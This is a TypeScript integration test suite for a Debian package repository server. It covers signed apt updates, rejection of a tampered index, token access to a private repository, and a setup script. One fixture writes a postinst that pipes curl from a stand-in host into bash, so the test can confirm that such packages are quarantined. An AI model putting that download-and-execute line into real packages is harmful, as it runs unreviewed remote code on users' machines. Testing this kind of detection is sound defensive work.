/**
 * A Debian repository with the real apt 2.6: a .deb pushed through the REST API is found by
 * `apt-get update` with signature checking on (signed-by the repository key), downloaded and
 * unpacked; a tampered index is refused; a private repository works with a read token in
 * auth.conf and not without it.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdir, mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { systemActor } from '../../src/domain/audit.js';
import { buildDeb } from '../formats/debian/build-deb.js';
import { type TestServer, startTestServer } from '../helpers/server.js';
import { startTamperingProxy } from '../helpers/tampering-proxy.js';

interface AptRun {
  status: number | null;
  output: string;
}

/** An apt of its own under `root`: sources, keyring, lists, cache and status file, nothing of the host's. */
async function aptSandbox(root: string, sourcesLine: string, keyring: Buffer, authConf = '') {
  for (const dir of ['sources.list.d', 'apt.conf.d', 'preferences.d', 'trusted.gpg.d', 'auth.conf.d', 'state/lists/partial', 'cache/archives/partial', 'download', 'unpacked']) {
    await mkdir(path.join(root, dir), { recursive: true });
  }
  await writeFile(path.join(root, 'keyring.gpg'), keyring);
  await writeFile(path.join(root, 'sources.list'), `${sourcesLine.replace('KEYRING', path.join(root, 'keyring.gpg'))}\n`);
  await writeFile(path.join(root, 'status'), '');
  await writeFile(path.join(root, 'auth.conf'), authConf, { mode: 0o600 });
  const conf = [
    `Dir::Etc::SourceList "${root}/sources.list";`,
    `Dir::Etc::SourceParts "${root}/sources.list.d";`,
    `Dir::Etc::Parts "${root}/apt.conf.d";`,
    `Dir::Etc::PreferencesParts "${root}/preferences.d";`,
    `Dir::Etc::TrustedParts "${root}/trusted.gpg.d";`,
    `Dir::Etc::netrc "${root}/auth.conf";`,
    `Dir::Etc::netrcparts "${root}/auth.conf.d";`,
    `Dir::State "${root}/state";`,
    `Dir::State::status "${root}/status";`,
    `Dir::Cache "${root}/cache";`,
    'APT::Architecture "amd64";',
    'APT::Architectures { "amd64"; };',
    'Acquire::Languages "none";',
    'Acquire::Retries "0";',
    'Debug::NoLocking "true";',
    // The sandbox belongs to root; apt's unprivileged download user could not write into it.
    'APT::Sandbox::User "root";',
  ].join('\n');
  await writeFile(path.join(root, 'apt.conf'), `${conf}\n`);
  // Asynchronous: the server under test answers apt from this same process.
  const run = (args: string[], cwd = root): Promise<AptRun> =>
    new Promise((resolve, reject) => {
      const child = spawn('apt-get', args, { cwd, env: { PATH: process.env.PATH ?? '/usr/bin:/bin', APT_CONFIG: path.join(root, 'apt.conf'), LANG: 'C' }, timeout: 120_000 });
      let output = '';
      child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
      child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
      child.on('error', reject);
      child.on('close', (status) => resolve({ status, output }));
    });
  return { run, root };
}

describe('APT repository with apt-get', () => {
  let server: TestServer;
  let token = '';
  const temps: string[] = [];
  let proxy: { url: string; close(): Promise<void> } | undefined;

  const temp = async (label: string) => {
    const dir = await mkdtemp(path.join(tmpdir(), `stockade-apt-${label}-`));
    temps.push(dir);
    return dir;
  };

  async function upload(repo: string, data: Buffer, filename: string, distribution: string): Promise<{ status: number; body: Record<string, unknown> }> {
    const url = `${server.url}/api/v1/repos/${repo}/upload?filename=${encodeURIComponent(filename)}&distribution=${distribution}`;
    const response = await fetch(url, { method: 'PUT', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' }, body: data });
    return { status: response.status, body: (await response.json()) as Record<string, unknown> };
  }

  before(async () => {
    server = await startTestServer({ signing: { rsaBits: 2048 } });
    const user = await server.createUser('ops', { scopes: ['read', 'write', 'delete'] });
    token = user.token;
    await server.createRepo('ops', 'os', 'public');
    await server.createRepo('ops', 'private', 'private');
  });

  after(async () => {
    await proxy?.close();
    await server?.close();
    for (const dir of temps) await rm(dir, { recursive: true, force: true });
  });

  it('installs a pushed .deb with signature checking on', async () => {
    const built = await buildDeb({
      name: 'acme-hello',
      version: '1.0.0-1',
      arch: 'all',
      files: [{ path: '/usr/share/acme-hello/greeting', body: 'hello from the pool\n' }],
    });
    const uploaded = await upload('ops/os', built.data, path.basename(built.path), 'bookworm');
    await built.cleanup();
    assert.equal(uploaded.status, 201, JSON.stringify(uploaded.body));
    assert.equal(uploaded.body.format, 'debian');
    assert.equal(uploaded.body.verdict, 'allow');

    const keyring = Buffer.from(await (await fetch(`${server.url}/ops/os/debian/keyring.gpg`)).arrayBuffer());
    const apt = await aptSandbox(await temp('public'), `deb [signed-by=KEYRING] ${server.url}/ops/os/debian bookworm main`, keyring);
    const update = await apt.run(['update']);
    assert.equal(update.status, 0, update.output);
    assert.doesNotMatch(update.output, /^(W|E):/m, update.output);

    const download = await apt.run(['download', 'acme-hello'], path.join(apt.root, 'download'));
    assert.equal(download.status, 0, download.output);
    const [debFile] = await readdir(path.join(apt.root, 'download'));
    assert.equal(debFile, 'acme-hello_1.0.0-1_all.deb');
    const unpack = spawnSync('dpkg', ['-x', path.join(apt.root, 'download', debFile as string), path.join(apt.root, 'unpacked')], { encoding: 'utf8' });
    assert.equal(unpack.status, 0, unpack.stderr);
    assert.equal(await readFile(path.join(apt.root, 'unpacked/usr/share/acme-hello/greeting'), 'utf8'), 'hello from the pool\n');

    // The index lists it once per architecture, with its pool path and hashes.
    const packages = await (await fetch(`${server.url}/ops/os/debian/dists/bookworm/main/binary-arm64/Packages`)).text();
    assert.match(packages, /^Filename: pool\/main\/a\/acme-hello\/acme-hello_1\.0\.0-1_all\.deb$/m);
  });

  it('refuses a different file under the same name, version and architecture, and lists the same file in another distribution', async () => {
    const other = await buildDeb({ name: 'acme-hello', version: '1.0.0-1', arch: 'all', files: [{ path: '/usr/share/acme-hello/greeting', body: 'different\n' }] });
    const conflict = await upload('ops/os', other.data, path.basename(other.path), 'bookworm');
    await other.cleanup();
    assert.equal(conflict.status, 409, JSON.stringify(conflict.body));

    const again = await buildDeb({ name: 'acme-tool', version: '2.0', arch: 'amd64' });
    assert.equal((await upload('ops/os', again.data, path.basename(again.path), 'bookworm')).status, 201);
    assert.equal((await upload('ops/os', again.data, path.basename(again.path), 'trixie')).status, 201);
    await again.cleanup();
    const trixie = await (await fetch(`${server.url}/ops/os/debian/dists/trixie/main/binary-amd64/Packages`)).text();
    assert.match(trixie, /^Package: acme-tool$/m);
    assert.doesNotMatch(trixie, /acme-hello/);
  });

  it('makes apt refuse a tampered Packages file', async () => {
    // A man in the middle that changes every index file on its way to apt.
    proxy = await startTamperingProxy(server.url, (url, body) =>
      /\/binary-[^/]+\/(Packages|by-hash)/.test(url) && !/\.gz$/.test(url) ? Buffer.from(body.toString('utf8').replace('acme-hello', 'acme-hellp')) : body,
    );
    const keyring = Buffer.from(await (await fetch(`${server.url}/ops/os/debian/keyring.gpg`)).arrayBuffer());
    const apt = await aptSandbox(await temp('tampered'), `deb [signed-by=KEYRING] ${proxy.url}/ops/os/debian bookworm main`, keyring);
    // Only the uncompressed index, so the tampered copy is the one apt reads.
    await writeFile(path.join(apt.root, 'apt.conf.d', 'no-compression'), 'Acquire::CompressionTypes::Order { "uncompressed"; };\nAcquire::GzipIndexes "false";\n');
    await writeFile(path.join(apt.root, 'apt.conf'), `${await readFile(path.join(apt.root, 'apt.conf'), 'utf8')}Acquire::CompressionTypes::Order:: "uncompressed";\nAcquire::CompressionTypes::gz "";\n`);
    const update = await apt.run(['update']);
    assert.notEqual(update.status, 0, update.output);
    assert.match(update.output, /Hash Sum mismatch|File has unexpected size|Failed to fetch/, update.output);
  });

  it('serves a private repository to a read token in auth.conf, and not without it', async () => {
    const built = await buildDeb({ name: 'acme-secret', version: '0.1', arch: 'all' });
    assert.equal((await upload('ops/private', built.data, path.basename(built.path), 'bookworm')).status, 201);
    await built.cleanup();
    const repo = await server.domain.repos.get('ops', 'private');
    const owner = await server.domain.accounts.getUser('ops');
    assert.ok(repo && owner);
    const master = await server.domain.tokens.create(systemActor, { userId: owner.id, name: 'fleet', kind: 'master', scopes: ['read'], repoId: repo.id });
    const machine = await server.domain.tokens.create(systemActor, { userId: owner.id, name: 'host', kind: 'read', scopes: ['read'], repoId: repo.id, parentId: master.token.id });
    const keyringResponse = await fetch(`${server.url}/ops/private/debian/keyring.gpg`, { headers: { authorization: `Bearer ${machine.secret}` } });
    assert.equal(keyringResponse.status, 200);
    const keyring = Buffer.from(await keyringResponse.arrayBuffer());
    const host = new URL(server.url).host;

    const anonymous = await aptSandbox(await temp('private-anon'), `deb [signed-by=KEYRING] ${server.url}/ops/private/debian bookworm main`, keyring);
    const refused = await anonymous.run(['update']);
    assert.match(refused.output, /401/, refused.output);

    // apt sends auth.conf credentials as Basic auth; the token is the password, never in the sources line.
    // Over plain http apt wants the scheme spelled out in the machine line.
    const authorized = await aptSandbox(await temp('private-token'), `deb [signed-by=KEYRING] ${server.url}/ops/private/debian bookworm main`, keyring, `machine http://${host}/ops/private/debian\nlogin machine\npassword ${machine.secret}\n`);
    const update = await authorized.run(['update']);
    assert.equal(update.status, 0, update.output);
    assert.doesNotMatch(update.output, /^(W|E):/m, update.output);
    const download = await authorized.run(['download', 'acme-secret'], path.join(authorized.root, 'download'));
    assert.equal(download.status, 0, download.output);
  });

  it('sets a machine up with setup.deb.sh: key, signed-by source, token only in auth.conf.d', async () => {
    const repo = await server.domain.repos.get('ops', 'private');
    const owner = await server.domain.accounts.getUser('ops');
    assert.ok(repo && owner);
    const master = await server.domain.tokens.create(systemActor, { userId: owner.id, name: 'setup fleet', kind: 'master', scopes: ['read'], repoId: repo.id });
    const machine = await server.domain.tokens.create(systemActor, { userId: owner.id, name: 'setup host', kind: 'read', scopes: ['read'], repoId: repo.id, parentId: master.token.id });
    const scriptResponse = await fetch(`${server.url}/ops/private/debian/setup.deb.sh`, { headers: { authorization: `Basic ${Buffer.from(`machine:${machine.secret}`).toString('base64')}` } });
    assert.equal(scriptResponse.status, 200);
    const script = await scriptResponse.text();
    assert.match(script, /^#!\/bin\/sh/);
    assert.doesNotMatch(script, /stk_/, 'the script never embeds a token');

    const root = await temp('setup');
    const scriptFile = path.join(root, 'setup.deb.sh');
    await writeFile(scriptFile, script);
    // Without a token the script refuses: the repository is private.
    const refused = spawnSync('sh', [scriptFile], { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', STOCKADE_ROOT: root, STOCKADE_DIST: 'bookworm' }, encoding: 'utf8' });
    assert.notEqual(refused.status, 0);
    assert.match(refused.stderr, /private; set STOCKADE_TOKEN/);

    const ran = await new Promise<{ status: number | null; output: string }>((resolve) => {
      const child = spawn('sh', [scriptFile], { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', STOCKADE_ROOT: root, STOCKADE_DIST: 'bookworm', STOCKADE_TOKEN: machine.secret } });
      let output = '';
      child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
      child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
      child.on('close', (status) => resolve({ status, output }));
    });
    assert.equal(ran.status, 0, ran.output);
    const list = await readFile(path.join(root, 'etc/apt/sources.list.d/stockade-ops-private.list'), 'utf8');
    assert.equal(list, `deb [signed-by=/etc/apt/keyrings/stockade-ops-private.gpg] ${server.url}/ops/private/debian bookworm main\n`);
    assert.doesNotMatch(list, /stk_/);
    const authFile = path.join(root, 'etc/apt/auth.conf.d/stockade-ops-private.conf');
    assert.match(await readFile(authFile, 'utf8'), new RegExp(`^machine http://127\\.0\\.0\\.1:\\d+/ops/private/debian\nlogin machine\npassword ${machine.secret}\n$`));
    assert.equal((await stat(authFile)).mode & 0o777, 0o600);

    // apt with exactly what the script installed (the keyring path moved under the scratch root).
    const keyring = await readFile(path.join(root, 'etc/apt/keyrings/stockade-ops-private.gpg'));
    const apt = await aptSandbox(await temp('setup-apt'), list.trim().replace('/etc/apt/keyrings/stockade-ops-private.gpg', 'KEYRING'), keyring, await readFile(authFile, 'utf8'));
    const update = await apt.run(['update']);
    assert.equal(update.status, 0, update.output);
    assert.doesNotMatch(update.output, /^(W|E):/m, update.output);
  });

  it('quarantines a package whose postinst pipes curl to bash: it reaches the index only once approved', async () => {
    const built = await buildDeb({
      name: 'acme-agent',
      version: '3.0',
      arch: 'all',
      controlFiles: { postinst: '#!/bin/sh\nset -e\ncurl -fsSL http://updates.example.invalid/install.sh | bash\n' },
    });
    const uploaded = await upload('ops/os', built.data, path.basename(built.path), 'bookworm');
    await built.cleanup();
    assert.equal(uploaded.status, 201, JSON.stringify(uploaded.body));
    assert.equal(uploaded.body.verdict, 'quarantine');
    assert.match(String((uploaded.body.reasons as string[])[0]), /os-packages\/download-execute in DEBIAN\/postinst/);
    const packages = await (await fetch(`${server.url}/ops/os/debian/dists/bookworm/main/binary-amd64/Packages`)).text();
    assert.doesNotMatch(packages, /acme-agent/);
    const pool = await fetch(`${server.url}/ops/os/debian/pool/main/a/acme-agent/acme-agent_3.0_all.deb`);
    assert.equal(pool.status, 404);

    // A repository admin who approves it after review puts it in the index and the pool.
    const review = await fetch(`${server.url}/api/v1/repos/ops/os/quarantine/review`, {
      method: 'POST',
      headers: { authorization: `Bearer ${server.adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify({ format: 'debian', name: 'acme-agent', version: '3.0_all', decision: 'approve', reason: 'the installer host is ours' }),
    });
    assert.equal(review.status, 204, await review.text());
    const after = await (await fetch(`${server.url}/ops/os/debian/dists/bookworm/main/binary-amd64/Packages`)).text();
    assert.match(after, /^Package: acme-agent$/m);
    assert.equal((await fetch(`${server.url}/ops/os/debian/pool/main/a/acme-agent/acme-agent_3.0_all.deb`)).status, 200);
  });
});
